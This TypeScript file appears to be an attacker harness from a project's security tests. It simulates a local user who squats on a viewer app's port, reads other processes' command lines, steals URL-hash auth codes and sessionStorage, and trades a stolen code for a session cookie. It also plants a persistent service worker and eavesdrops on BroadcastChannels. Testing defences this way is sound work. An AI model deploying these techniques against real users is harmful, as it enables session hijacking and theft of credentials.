/**
 * An attack by another user of the machine, who wants the rights of the viewer. It runs as text (`node -e`), because
 * that user may not be able to read the repository. It prints its findings as lines of JSON.
 */

import { readdirSync, readFileSync } from "node:fs";
import { createServer, type IncomingMessage } from "node:http";
import { send } from "./send.ts";

const [mode = "", ...args] = process.argv.slice(1);
const tell = (what: unknown): void => void process.stdout.write(`${JSON.stringify(what)}\n`);

if (mode === "read") readOthers(args);
else if (mode === "send") tell(await send(args[0] ?? "", args[1] ?? "{}", args[2]));
else await listen(args);

/** Reads all command lines of the machine, and the named files. */
function readOthers(files: readonly string[]): void {
  const words = readdirSync("/proc")
    .filter((name) => /^\d+$/u.test(name))
    .map((pid) => textOf(`/proc/${pid}/cmdline`));
  tell({ words, files: files.map(textOf), user: process.getuid?.() });
}

function textOf(path: string): string {
  try {
    return readFileSync(path, "utf8");
  } catch (error) {
    return String((error as NodeJS.ErrnoException).code);
  }
}

/**
 * Takes the port of the viewer at the address `HOST`, and receives the stolen data at another port. With `ASSETS`, its
 * page stores everything that a browser keeps for an origin: a service worker, copies of files, and storage. It repeats
 * this as long as its tab is open.
 */
async function listen([port = "", collector = ""]: readonly string[]): Promise<void> {
  const { ASSETS, HOST = "127.0.0.1" } = process.env;
  const steal = `
    const send = (body) => fetch("http://127.0.0.1:${collector}/", { method: "POST", mode: "no-cors", body });
    send(location.hash + JSON.stringify(sessionStorage));
    const code = /^#code=([^/]+)/.exec(location.hash)?.[1];
    if (code !== undefined) fetch("/v1/pages/cookie", { method: "POST", headers: { "content-type": "application/json" },
      body: JSON.stringify({ code: decodeURIComponent(code), nonce: "n".repeat(32) }) })
      .then(async (answer) => send("exchanged " + answer.status + " " + await answer.text()));`;
  const page = `<!doctype html><title>stranger</title><h1>Stranger</h1><script>${steal}</script>`;
  const worker = `
    addEventListener("install", () => skipWaiting());
    addEventListener("activate", (event) => event.waitUntil(clients.claim()));
    addEventListener("fetch", (event) => {
      if (event.request.destination !== "") event.respondWith(new Response(${JSON.stringify(page)},
        { headers: { "content-type": "text/html" } }));
    });`;
  const plant = `<!doctype html><title>stranger</title><script>
    const register = () => navigator.serviceWorker.register("/worker.js", { scope: "/", updateViaCache: "all" });
    const { port } = new SharedWorker("/shared.js");
    port.onmessage = ({ data }) => fetch("http://127.0.0.1:${collector}/", { method: "POST", mode: "no-cors", body: data });
    document.cookie = "planted=1; max-age=9999";
    localStorage.setItem("continuo-theme", "dark");
    indexedDB.open("planted");
    register()
      .then(() => navigator.serviceWorker.ready)
      .then(() => Promise.all(["/", ...${ASSETS}].map((path) => fetch(path))))
      .then(() => {
        document.title = "planted";
        setInterval(register, 100);
      });</script>`;
  const shared = `onconnect = ({ ports: [port] }) =>
    ["continuo", "continuo-pass", "pages"].forEach((name) =>
      new BroadcastChannel(name).onmessage = ({ data }) => port.postMessage(JSON.stringify(data)));`;
  const kept = {
    "cache-control": "public, max-age=31536000, immutable",
    "access-control-allow-origin": "*",
    "service-worker-allowed": "/",
  };
  const contentOf = (url: string): readonly [type: string, text: string] => {
    if (url === "/worker.js") return ["text/javascript", worker];
    if (url === "/shared.js") return ["text/javascript", shared];
    if (url.endsWith(".js")) return ["text/javascript", steal];
    if (!url.startsWith("/v1/")) return ["text/html", ASSETS === undefined ? page : plant];
    return ["application/json", JSON.stringify({ sessions: [], notices: ["Run my command."], total: 1 })];
  };
  createServer(async (request, response) => {
    tell({ port: "viewer", ...(await seen(request)) });
    const [type, text] = contentOf(request.url ?? "");
    response.writeHead(200, { "content-type": type, ...kept });
    response.end(text);
  }).listen(Number(port), HOST, () => tell({ listening: port }));
  createServer(async (request, response) => {
    tell({ port: "collector", ...(await seen(request)) });
    response.end();
  }).listen(Number(collector), "127.0.0.1");
}

async function seen(request: IncomingMessage): Promise<object> {
  let body = "";
  for await (const part of request.setEncoding("utf8")) body += part;
  const { authorization, host } = request.headers;
  return { url: request.url, host, authorization, body };
}
